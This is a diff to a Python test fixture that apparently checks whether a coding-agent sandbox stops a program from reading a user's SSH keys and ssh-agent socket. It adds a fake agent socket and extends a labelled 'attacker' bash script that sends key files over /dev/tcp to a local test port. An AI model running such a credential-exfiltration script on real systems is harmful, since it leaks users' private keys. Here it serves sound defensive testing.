@@ -4,11 +4,12 @@ from __future__ import annotations
 
 import json
 import os
+import socket
 import socketserver
 import subprocess
 import threading
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import chdir, contextmanager
 from pathlib import Path
 
 from msgspec.structs import replace
@@ -52,7 +53,8 @@ STEAL = """#!/bin/bash
 # What an attacker's program does: it sends every key that it can read.
 exec 3<>/dev/tcp/127.0.0.1/PORT || exit 0
 cat FILES >&3 2>/dev/null
-[ -S "$SSH_AUTH_SOCK" ] && echo NEEDLE-agent >&3
+python3 -c 'import os, socket, sys; os.chdir(sys.argv[1])
+socket.socket(socket.AF_UNIX).connect("agent.sock")' HOME_FOLDER 2>/dev/null && echo NEEDLE-agent >&3
 exec 3>&-
 exit 0
 """
@@ -115,9 +117,15 @@ class Person:
             made.mkdir()
         for name, kind in KEYS.items():
             self.write(folder / name, f"NEEDLE-{kind}")
+        self._agent = socket.socket(socket.AF_UNIX)
+        with chdir(folder):  # a path of a socket has at most a hundred characters
+            self._agent.bind("agent.sock")
+        self._agent.listen()
         self.program("ssh", SSH)
         files = " ".join(f'"{folder / name}"' for name in KEYS)
-        self.steal = STEAL.replace("PORT", str(port)).replace("FILES", files)
+        self.steal = (
+            STEAL.replace("PORT", str(port)).replace("FILES", files).replace("HOME_FOLDER", str(folder))
+        )
         self.write(
             folder / ".gitconfig",
             "[user]\nname = Ann\nemail = ann@example.org\n[init]\ndefaultBranch = main\n",
@@ -127,6 +135,7 @@ class Person:
             "HOME": str(folder),
             "PATH": f"{self.bin}:{os.environ['PATH']}",
             "SERVED": str(self.served),
+            "SSH_AUTH_SOCK": str(folder / "agent.sock"),
             **(environ or {}),
         }
         self.paths = PathPolicy(home=str(folder / ".hermes-jobs"), user_home=str(folder))
@@ -139,6 +148,10 @@ class Person:
             timeout=60,
         )
         self.tools = Toolbox((*Terminal(options).tools, *Files(self.paths).tools), enabled=("coding",))
+
+    def close(self) -> None:
+        """Close the socket of the ssh-agent."""
+        self._agent.close()
 
     def write(self, path: Path | str, text: str, *, executable: bool = False) -> Path:
         """Write a file, from the project if the path is relative."""
